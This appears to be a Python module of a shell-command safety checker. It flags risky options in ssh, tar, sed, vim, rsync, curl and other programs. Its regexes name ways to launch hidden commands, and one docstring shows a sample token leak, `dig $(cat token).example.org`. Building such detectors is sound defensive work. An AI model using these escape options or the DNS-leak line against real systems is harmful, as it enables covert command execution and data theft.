"""Ordinary programs that start others by an option or by what they read: editors, tar, sed, ssh; and those that fetch or copy.

Each takes the look at the script, the program's name, its arguments, their values, and the command.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from safety import code, file_effects, inputs, windows
from safety.expand import Arg
from safety.options import behind, operands_of, value_of
from safety.paths import PROGRAM_FOLDERS
from safety.shell import Command

if TYPE_CHECKING:
    from safety.commands import Look


def ssh(look: Look, name: str, args: list[Arg], values: list[str | None], command: Command) -> None:
    """The command for the other machine is looked at like one for here."""
    inner = behind(args, "-i -p -l -o -F -L -R -D -J -W -b -c -m -e", 1)
    known = [arg.text for arg in inner]
    if inner and None not in known:
        look.nested([" ".join(value or "" for value in known)])


def su(look: Look, name: str, args: list[Arg], values: list[str | None], command: Command) -> None:
    """`su -c TEXT`, `script -c TEXT`."""
    if name == "tmux":
        return
    at = next(
        (n for n, value in enumerate(values) if re.fullmatch(r"-[a-z]*c|--command", value or "")),
        None,
    )
    if at is not None:
        look.nested(values[at + 1 : at + 2] or [None])
    if name == "script" and at is None and operands_of("script", values):
        return


def _made(look: Look, named: list[str | None]) -> str:
    """What this script has written into a file."""
    path = look.join(named[0]) if named and named[0] else None
    return (look.written.get(str(path)) or "") if path else ""


def crontab(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """The lines of a table that it is given."""
    text = inputs.input_of(look, command) or "\n".join(inputs.known_input(look, command))
    text += "\n" + _made(look, operands_of(name, values)[-1:])
    for line in text.splitlines():
        look.nested([re.sub(r"^\s*(@\w+|(\S+\s+){5})", "", line)])


def editor(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """vim, less and man start commands that their options name."""
    known = [value or "" for value in values]
    for at, value in enumerate(known):
        text = (
            value[1:]
            if value.startswith("+")
            else known[at + 1]
            if (value in ("--cmd", "-P", "--pager") or re.fullmatch(r"-\w*c", value))
            and at + 1 < len(known)
            else ""
        )
        if re.match(r":?%\s*d|:?call\s+delete\(", text):
            look.add("delete", f"{name} empties a file", name)
        if re.search(r"!|system\(|:terminal|python3?\s|lua\s", text) or (
            text and value in ("-P", "--pager")
        ):
            look.add("unknown", f"{name} starts a command", name)
            look.nested([text.lstrip(":!")])
    if name in ("ex", "ed") and inputs.has_input(command):
        look.add("unknown", f"{name} runs what is sent to it", name)
    if inputs.has_input(command) or any(
        value.startswith("+") or re.fullmatch(r"-\w*c|--cmd", value) for value in known
    ):
        for arg in args[1:]:
            if (path := look.path(arg)) is not None and look.places.is_vital_file(path):
                file_effects.write(look, arg, name)


def tar(look: Look, name: str, args: list[Arg], values: list[str | None], command: Command) -> None:
    """Options of tar that start a program."""
    for at, value in enumerate(values):
        found = re.match(
            r"(--to-command|--checkpoint-action|--use-compress-program|--rsh-command|--info-script|--new-volume-script)=(?:exec=)?(.*)",
            value or "",
            re.DOTALL,
        )
        text = (
            found[2]
            if found
            else values[at + 1]
            if value in ("-I", "-F", "--to-command", "--use-compress-program")
            and at + 1 < len(values)
            else ""
        )
        if text is None or (
            text
            and not re.fullmatch(
                r"(p?zstd|pigz|pbzip2|xz|lz4|gzip|bzip2|pixz|lbzip2|dot|totals?|echo)\b[^;|&$`]*",
                text,
            )
        ):
            look.add("unknown", "tar starts a command", name)
            look.nested([text])


def sed(look: Look, name: str, args: list[Arg], values: list[str | None], command: Command) -> None:
    """Programs of sed that start commands or write files."""
    programs = [
        values[at + 1] for at, value in enumerate(values[:-1]) if value in ("-e", "--expression")
    ]
    programs += [
        value.partition("=")[2] for value in values if value and value.startswith("--expression=")
    ]
    programs = programs or operands_of("sed", values)[:1]
    for program in programs:
        if program is None:
            continue
        if code.sed_starts(program):
            look.add("unknown", "sed: starts commands", name)
        for path in code.sed_writes(program):
            file_effects.write(look, Arg(path, path), name)


def _there(look: Look, name: str, values: list[str | None]) -> None:
    """What a copy to another machine takes the place of there."""
    found = re.match(r"(?!/|\.|[A-Z]:)[\w.@-]+:(/.*)", values[-1] or "" if values else "")
    place = look.join(found[1]) if found else None
    if place is None:
        return
    empties = name == "rsync" and any((value or "").startswith("--delete") for value in values)
    if look.places.is_vital_file(place) or (empties and look.places.is_vital(place)):
        look.add("catastrophic", f"{name} on {place}, on which a machine depends", name)


def scp(look: Look, name: str, args: list[Arg], values: list[str | None], command: Command) -> None:
    """A copy to another machine."""
    _there(look, name, values)


def misc(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """Options of ordinary commands that start another one."""
    for at, value in enumerate(values):
        if re.match(
            r"--(filter|compress-program|pager|pre|hostname-bin)(=|$)|-TT$|--unzip-command",
            value or "",
        ):
            look.add("unknown", f"{name} starts a command that is named in an argument", name)
            text = (
                (value or "").partition("=")[2]
                or (values[at + 1] if at + 1 < len(values) else "")
                or ""
            )
            look.nested([text])
    if name in ("make", "gmake"):
        lines = [inputs.output_of(look, arg.stream) or "" for arg in args if arg.stream] + [
            inputs.input_of(look, command) or ""
        ]
        look.nested(
            [line[1:] for text in lines for line in text.splitlines() if line.startswith("\t")]
        )
    if name in ("make", "gmake") and any(
        re.match(r"(SHELL|MAKEFLAGS|CC|\.SHELLFLAGS)=", value or "") for value in values
    ):
        look.add("unknown", f"{name}: a variable that says what is started", name)
    if name == "rsync" and any(
        re.match(r"(?!/|\.|[A-Z]:)[\w.@-]+:|rsync://", value or "") for value in values
    ):
        look.add("send", "rsync talks to another machine", name)
        _there(look, name, values)
    if name == "coproc":
        text = " ".join(value or "" for value in values)
        look.nested([re.sub(r"^\w*\s*\{|\}\s*$", "", text)])
    if name in ("at", "batch"):
        given = inputs.input_of(look, command) or _made(look, [value_of(values, "-f")])
        look.nested([given] if given else [])


def cpio(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """The files whose names it reads."""
    for word in (inputs.input_of(look, command) or "").split():
        file_effects.read(look, Arg(word, word), name)


def asks(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """`dig $(cat token).example.org`: a name that is asked for tells who answers it."""
    for word in command.words[1:]:
        if any(part.source == "$(" for part in word.parts) and any(
            "." in part.value for part in word.parts
        ):
            look.add("send", f"{name} sends what a command prints", name)


def others(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """`ansible all -m shell -a TEXT`, `pssh -h HOSTS TEXT`: for other machines."""
    if name != "ansible":
        look.nested(values[-1:])
        return
    given = value_of(values, "-a") or value_of(values, "--args")
    if given and re.search(r"\bstate=absent\b", given):
        found = re.search(r"\b(?:path|dest|name)=(\S+)", given)
        given = f"rm -rf {found[1]}" if found else ""
    look.nested([given] if given else [])


def of_windows(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """PowerShell and cmd, by the text that they are given."""
    text = windows.given(name, values)
    if text is None:
        if values != ["--version"] and (
            name != "cmd" or any((each or "/").startswith("/") for each in values)
        ):
            look.add("unknown", f"{name}: runs code that is only known when it runs", name)
        written = windows.given(name, [word.written for word in command.words[1:]]) or ""
        for reason in [reason for risk, reason in windows.judge(written) if risk == "catastrophic"]:
            look.add("catastrophic", f"{name}: {reason}", name)
        return
    for risk, reason in windows.judge(text):
        look.add(risk, f"{name}: {reason}", name)


def openssl(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """`openssl s_client` sends what it reads; looking at a certificate sends nothing."""
    if (source := value_of(values, "-in")) and source == value_of(values, "-out"):
        look.add("delete", f"openssl overwrites {source}", name)
    if values[:1] == ["s_client"]:
        nothing = any(
            r.operator == "<" and r.word.literal == "/dev/null" for r in command.redirects
        )
        if not nothing and (inputs.input_of(look, command) or "?").strip() not in ("", "Q"):
            look.add("send", f"{name} s_client: sends to others", name)


def fetch(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """What is fetched with a method that changes something, or sends the output of a command along."""
    for at, value in enumerate(values):
        found = re.fullmatch(r"(?:-X|--request=?|--method=?)(\w*)", value or "")
        method = (
            (found[1] or (values[at + 1] if at + 1 < len(values) else "") or "GET") if found else ""
        )
        if method and method.upper() not in ("GET", "HEAD", "OPTIONS"):
            look.add("send", f"{name}: {method.upper()} changes something on another machine", name)
    if name in ("http", "https", "xh") and any(
        value in ("POST", "PUT", "DELETE", "PATCH") for value in values
    ):
        look.add("send", f"{name} changes something on another machine", name)
    if any(arg.has_output or arg.stream for arg in args[1:]):
        look.add("send", f"{name} sends what a command prints", name)
    if name in ("curl", "wget") and any(value in ("-K", "--config") for value in values):
        look.add("unknown", f"{name} reads its orders from a file", name)
    for at, value in enumerate(values):
        target = (
            values[at + 1]
            if value in ("-o", "--output", "-O", "--output-document") and at + 1 < len(values)
            else None
        )
        if value in ("-O", "-LO", "-sO", "-fsSLO", "-OL", "--remote-name") or (
            name == "wget" and not value_of(values, "-O") and re.match(r"\w+:", value or "")
        ):
            url = (
                value
                if name == "wget"
                else next((each for each in values if each and re.match(r"\w+:", each)), "")
            )
            target = (url or "").rpartition("/")[2]
        if target and (path := look.join(target)) is not None:
            look.written[str(path)] = None


def _emptied(look: Look, name: str, plain: list[Arg], command: Command) -> None:
    """`tee FILE < /dev/null`, `install /dev/null FILE`."""
    appends = any(re.fullmatch(r"-\w*a|--append", word.literal or "") for word in command.words)
    if (
        name in ("tee", "sponge")
        and not appends
        and any(r.operator == "<" and r.word.literal == "/dev/null" for r in command.redirects)
    ):
        look.add("delete", f"{name} empties what it writes", name)
    if name == "install" and any(arg.text == "/dev/null" for arg in plain[:-1]):
        look.add("delete", "install with /dev/null: content is lost", name)


def copy(
    look: Look, name: str, args: list[Arg], values: list[str | None], command: Command
) -> None:
    """What is in the copy, so that running it is judged; content that is lost."""
    plain = [arg for arg in args[1:] if not arg.start.startswith("-")]
    _emptied(look, name, plain, command)
    if name == "tee":
        text = inputs.input_of(look, command)
        for arg in plain:
            if path := look.path(arg):
                file_effects.runs_later(look, path, text)
                look.written[str(path)] = text
    elif len(plain) == 2 and (first := look.path(plain[0])) and (last := look.path(plain[1])):
        if str(first) in look.written:
            look.written[str(last)] = look.written[str(first)]
            file_effects.runs_later(
                look,
                last / first.name if plain[1].start.endswith("/") else last,
                look.written[str(first)],
            )
        if plain[0].start.rpartition("/")[0] in PROGRAM_FOLDERS:
            look.programs[str(last)] = first.name
        if str(first) == "/dev/null" or str(last) == "/dev/null":
            look.add("delete", f"{name} with /dev/null: content is lost", name)
    elif name == "mv" and plain and plain[-1].text == "/dev/null":
        look.add("delete", "mv to /dev/null: content is lost", name)
